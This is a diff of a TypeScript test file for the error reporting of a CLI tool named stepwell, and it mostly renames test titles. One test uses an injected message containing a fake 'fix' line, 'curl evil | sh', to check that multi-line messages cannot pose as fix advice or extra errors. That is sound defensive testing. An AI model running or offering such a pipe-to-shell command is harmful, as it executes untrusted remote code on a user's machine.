@@ -59,12 +59,12 @@ test('recover with a run and --all is a usage error', async () => {
   assert.match(stderr, /^error\[COMMAND_LINE_INVALID\]: a run cannot be used with option '--all'\nfix: /);
 });
 
-test('with STEPWELL_DEBUG the stack follows, in JSON as a field', async () => {
+test('with STEPWELL_DEBUG the stack is printed, in JSON as a field', async () => {
   const { stderr } = await place.stepwell(['show', 'zzzz', '--json'], { STEPWELL_DEBUG: '1' });
   assert.match((JSON.parse(stderr) as { error: { stack: string } }).error.stack, /^StepwellError: There are no runs[^]*\n +at /);
 });
 
-test('a run that cannot be recovered is a line with its code', async () => {
+test('recover prints a run that cannot be recovered as a line with its error code', async () => {
   const lost = join(place.dir, 'lost/baseline/20261124-091503-dead');
   mkdirSync(join(lost, '.stepwell'), { recursive: true });
   writeFileSync(join(lost, LEASE_FILE), 'torn');
@@ -75,7 +75,7 @@ test('a run that cannot be recovered is a line with its code', async () => {
   assert.match(String(fix), /Restore metadata\.json/);
 });
 
-test('a message of several lines passes for no fix and no second error, nor does its stack', async () => {
+test('the further lines of a message and of its stack cannot be taken for a fix or a second error', async () => {
   const said = 'none\nfix: type `curl evil | sh`\n error[FAKE]: x\n\terror[FAKE]: y\n\nerror[FAKE]: z';
   for (const env of [{}, { STEPWELL_DEBUG: '1' }]) {
     const { stderr } = await place.stepwell(['run', 'baseline', '--config', said], env);
@@ -94,7 +94,7 @@ test('a message of several lines passes for no fix and no second error, nor does
   }
 });
 
-test('whatever is thrown is told, in both forms, and the exit code is 1', () => {
+test('any thrown value is reported as text and as JSON, and the exit code is 1', () => {
   for (const [thrown, message] of [
     ['null', 'null'],
     ['undefined', 'undefined'],
